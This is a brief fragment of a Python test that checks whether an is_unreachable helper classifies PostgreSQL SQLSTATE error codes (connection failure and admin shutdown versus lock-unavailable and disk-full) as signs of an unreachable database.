        def __init__(self, sqlstate: str | None) -> None:
            self.sqlstate = sqlstate

    assert is_unreachable(Failed(None))
    assert is_unreachable(Failed("08006"))
    assert is_unreachable(Failed("57P01"))
    assert not is_unreachable(Failed("55P03"))  # lock not available
    assert not is_unreachable(Failed("53100"))  # disk full
